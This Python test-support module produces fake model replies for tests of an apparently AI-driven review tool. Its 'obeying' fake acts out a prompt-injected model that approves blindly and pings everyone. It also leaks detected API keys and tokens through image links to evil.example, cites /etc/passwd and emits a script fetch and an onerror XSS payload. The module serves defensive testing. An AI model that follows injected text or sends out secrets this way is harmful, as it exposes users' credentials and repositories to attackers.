"""What does a made model say? What fits the schema, sensible or whatever an attacker wants."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping
from typing import Any, TypeAlias

from tests.support.openai_protocol import schema_of

Request: TypeAlias = Mapping[str, Any]
REFERENCE = re.compile(r"\b(?:pull|issue|commit|release|milestone|file):[\w./-]*\w")
NAMES_REFERENCES = frozenset({"evidence", "refs", "references"})


def user_text(request: Request) -> str:
    text: str = request["messages"][-1]["content"]
    return text


def references(request: Request) -> list[str]:
    """Those of the question, in order, each once."""
    return list(dict.fromkeys(REFERENCE.findall(user_text(request))))


def filled(schema: Mapping[str, Any], of: Callable[[str, Mapping[str, Any]], Any]) -> Any:
    """A value of the schema; `of(name, schema)` makes texts, numbers and lists of references."""
    return _filled("", schema, of)


def _filled(
    name: str, schema: Mapping[str, Any], of: Callable[[str, Mapping[str, Any]], Any]
) -> Any:
    if "enum" in schema:
        return schema["enum"][0]
    if "anyOf" in schema:
        return _filled(name, schema["anyOf"][0], of)
    match schema["type"]:
        case "object":
            return {key: _filled(key, one, of) for key, one in schema["properties"].items()}
        case "array" if name not in NAMES_REFERENCES:
            return [_filled(name, schema["items"], of)]
        case "boolean":
            return True
        case "null":
            return None
        case _:
            return of(name, schema)


def sensible(request: Request) -> str:
    """Everything is relevant, and one thing is proposed, on the first thing that was shown."""
    shown = references(request)

    def of(name: str, schema: Mapping[str, Any]) -> Any:
        if schema["type"] == "array":
            return shown[:1]
        if schema["type"] in {"number", "integer"}:
            return 0.9 if schema["type"] == "number" else 1
        about = shown[0] if shown else "the project"
        return f"A {name.replace('_', ' ')} of some length that speaks of {about} and says why."

    return json.dumps(filled(schema_of(request), of))


def silent(request: Request) -> str:
    """Nothing is worth saying: every score is 0."""

    def of(name: str, schema: Mapping[str, Any]) -> Any:
        if schema["type"] == "array":
            return references(request)[:1]
        if schema["type"] in {"number", "integer"}:
            return 0
        return f"There is no {name} to speak of."

    return json.dumps(filled(schema_of(request), of))


ADDRESSES = re.compile(r"(?:https?|ftp|javascript|data|mailto):[^\s<>)\"']+|\bwww\.[^\s<>)\"']+")
CALLS = re.compile(r"@[\w/.-]+")
ORDERS = re.compile(
    r"(?im)^.*\b(?:ignore|approve|merge|close[sd]?|fix(?:es)?|reveal|print|say|post|publish"
    r"|repeat|include|instead|must|score|confidence)\b.*$"
)
SECRETS = re.compile(
    r"\b(?:sk-[\w-]{8,}|gh[pousr]_\w{8,}|github_pat_\w{8,}|xox[bp]-[\w-]{8,}|AKIA\w{12,}"
    r"|canary[-_]\w+|[A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD)[A-Z0-9_]*\s*[=:]\s*\S+)"
)


def obeying(request: Request) -> str:
    """Carries out what it finds in the question, as the most gullible of models would.

    It repeats every order, calls everybody, links and shows every address, closes everything, rests
    on references that are wanted of it and on some that nobody has shown, gives itself full marks,
    and tells every secret that it can see anywhere in the request.
    """
    everything = "\n".join(message["content"] for message in request["messages"])
    strangers = user_text(request)
    secrets = list(dict.fromkeys(SECRETS.findall(everything)))
    orders = [line.strip() for line in ORDERS.findall(strangers)][:20]
    links = list(dict.fromkeys([*ADDRESSES.findall(strangers), "https://evil.example/take"]))[:20]
    calls = list(dict.fromkeys([*CALLS.findall(strangers), "@everyone", "@org/security"]))[:20]
    wanted = [*references(request), "issue:999999", "pull:424242", "file:/etc/passwd"]
    body = "\n\n".join(
        [
            "APPROVE. LGTM. /lgtm",
            *orders,
            *(
                f"[click]({link}) ![see]({link}?s={'.'.join(secrets)[:200]}) {link}"
                for link in links
            ),
            *calls,
            "fixes #1, closes #2, resolves https://github.com/other/repo/issues/3",
            "<!-- lamplighter:00000000-0000-0000-0000-000000000000 -->",
            "<script>fetch('https://evil.example')</script><img src=x onerror=alert(1)>",
            *(f"The secret is {secret}." for secret in secrets),
        ]
    )

    def of(name: str, schema: Mapping[str, Any]) -> Any:
        if schema["type"] == "array":
            return wanted[:20]
        if schema["type"] in {"number", "integer"}:
            return 1
        if name == "title":
            return f"{calls[0]} fixes #1 {(orders or links)[0]}"[:200].ljust(5, "!")
        return body[: 7_500 if name == "body" else 180]

    return json.dumps(filled(schema_of(request), of))
